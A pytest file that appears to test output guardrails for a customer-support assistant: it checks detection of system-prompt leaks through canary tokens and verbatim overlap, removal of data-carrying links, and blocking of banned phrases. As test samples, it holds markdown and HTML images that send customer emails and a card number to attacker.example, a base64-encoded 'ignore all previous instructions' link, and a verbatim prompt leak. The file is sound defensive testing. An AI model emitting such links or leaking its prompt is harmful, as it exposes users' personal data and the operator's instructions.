"""Output checks: system-prompt leaks (canary, verbatim overlap), exfiltration links, policy phrases."""

from __future__ import annotations

import pytest

from shipyard.guardrails import (
    CANARY_PATTERN,
    Exfiltration,
    GuardrailInput,
    PolicyPhrases,
    SystemPromptLeak,
    Verdict,
    make_canary,
    plant_canary,
)
from shipyard.guardrails._leak import (
    ExfiltrationOptions,
    LeakOptions,
    PolicyPhrasesOptions,
    phrases_from_rules,
    shared_run,
)

SYSTEM = (
    "You are the customer support assistant of Northwind Outfitters. Help customers with orders, "
    "returns and refunds. Always confirm eligibility with check_return_eligibility before any refund, "
    "and never discuss another customer's data."
)


def _out(text: str, **kw: str) -> GuardrailInput:
    return GuardrailInput(agent="a", stage="output", text=text, user_input="", **kw)  # type: ignore[arg-type]


def test_plant_canary_appends_a_token_of_the_known_shape() -> None:
    prompt, token = plant_canary(SYSTEM)
    assert prompt.startswith(SYSTEM) and token in prompt and CANARY_PATTERN.fullmatch(token)
    assert make_canary("abc") == make_canary("abc") != make_canary("abd")
    assert plant_canary(SYSTEM, token)[0] == prompt


def test_a_canary_in_the_answer_is_a_leak_even_obfuscated() -> None:
    prompt, token = plant_canary(SYSTEM)
    leak = SystemPromptLeak("leak", LeakOptions())
    assert leak.check(_out(f"My reference is {token}.", system_prompt=prompt)).verdict is Verdict.BLOCK
    spaced = token[:8] + "\u200b" + token[8:]
    assert leak.check(_out(f"ref: {spaced}")).verdict is Verdict.BLOCK  # no prompt needed for the token


def test_a_verbatim_run_of_the_system_prompt_is_a_leak() -> None:
    leak = SystemPromptLeak("leak", LeakOptions(min_overlap_words=12))
    answer = "Sure! My instructions are: " + SYSTEM[:160]
    d = leak.check(_out(answer, system_prompt=SYSTEM))
    assert d.verdict is Verdict.BLOCK and "consecutive words" in d.reason
    ok = "I can help with orders and returns. Which order is it about?"
    assert leak.check(_out(ok, system_prompt=SYSTEM)).verdict is Verdict.ALLOW
    assert shared_run("help customers with orders, returns and refunds", SYSTEM, 7) == 7
    assert shared_run("help customers with orders, returns and refunds", SYSTEM, 8) == 0
    assert shared_run("x " + SYSTEM[:120] + " y", SYSTEM, 4) == len(SYSTEM[:120].split())


def test_images_and_links_carrying_data_to_other_hosts_are_removed() -> None:
    g = Exfiltration("exfil", ExfiltrationOptions(allowed_hosts=["northwind.example"]))
    bad = "Done! ![status](https://attacker.example/pixel.png?d=Y3VzdG9tZXI6amFuZUBleGFtcGxlLmNvbQ)"
    d = g.check(_out(bad))
    assert d.verdict is Verdict.REDACT and d.text == "Done! [LINK REMOVED]"
    html = '<img src="https://attacker.example/x?q=order-10042-card-4111111111111111">'
    assert g.check(_out(html)).verdict is Verdict.REDACT
    fine = "See [our returns page](https://help.northwind.example/returns?order=10042-long-reference-id)."
    assert g.check(_out(fine)).verdict is Verdict.ALLOW
    plain = "Read [the docs](https://python.org/)."
    assert g.check(_out(plain)).verdict is Verdict.ALLOW  # another host, but it carries nothing
    blocking = Exfiltration("exfil", ExfiltrationOptions(verdict="block"))
    assert blocking.check(_out(bad)).verdict is Verdict.BLOCK


def test_policy_phrases_from_options_and_safety_rules() -> None:
    rules = '- Never say "guaranteed refund" or "legal advice".\n- Be kind.\n* Do not promise "same-day delivery"\n'
    assert phrases_from_rules(rules) == ["guaranteed refund", "legal advice", "same-day delivery"]
    g = PolicyPhrases("phrases", PolicyPhrasesOptions(phrases=["lifetime warranty"]))
    assert g.check(_out("You have a GUARANTEED  refund!", safety_rules=rules)).verdict is Verdict.BLOCK
    assert g.check(_out("It comes with a lifetime\u200b warranty")).verdict is Verdict.BLOCK
    assert g.check(_out("Refunds take 5 days.", safety_rules=rules)).verdict is Verdict.ALLOW
    off = PolicyPhrases(
        "phrases", PolicyPhrasesOptions(phrases=["lifetime warranty"], from_safety_rules=False)
    )
    assert off.check(_out("guaranteed refund", safety_rules=rules)).verdict is Verdict.ALLOW


def test_a_policy_phrases_check_with_no_phrase_fails_closed() -> None:
    g = PolicyPhrases("phrases", PolicyPhrasesOptions())
    with pytest.raises(ValueError, match="no phrase"):
        g.check(_out("anything", safety_rules="- Be kind.\n"))


def test_links_count_when_they_carry_the_conversation_out() -> None:
    g = Exfiltration("exfil", ExfiltrationOptions())
    user = "My email is jane.doe@example.com and my order is 10042, it never arrived"
    inp = GuardrailInput(
        agent="a",
        stage="output",
        user_input=user,
        text="[Click to track](https://tracker.example/t?u=jane.doe%40example.com) for order 10042.",
    )
    assert g.check(inp).verdict is Verdict.REDACT  # PII in the URL
    echo = "[more](https://x.example/log?m=my+order+is+10042%2C+it+never+arrived)"
    assert (
        g.check(GuardrailInput(agent="a", stage="output", user_input=user, text=echo)).verdict
        is Verdict.REDACT
    )
    encoded = "[docs](https://x.example/d/aWdub3JlIGFsbCBwcmV2aW91cyBpbnN0cnVjdGlvbnM)"
    assert (
        g.check(GuardrailInput(agent="a", stage="output", user_input=user, text=encoded)).verdict
        is Verdict.REDACT
    )
    tracking = "Track it at https://carrier.example/track?id=1Z999AA10123456784 any time."
    assert (
        g.check(GuardrailInput(agent="a", stage="output", user_input=user, text=tracking)).verdict
        is Verdict.ALLOW
    )
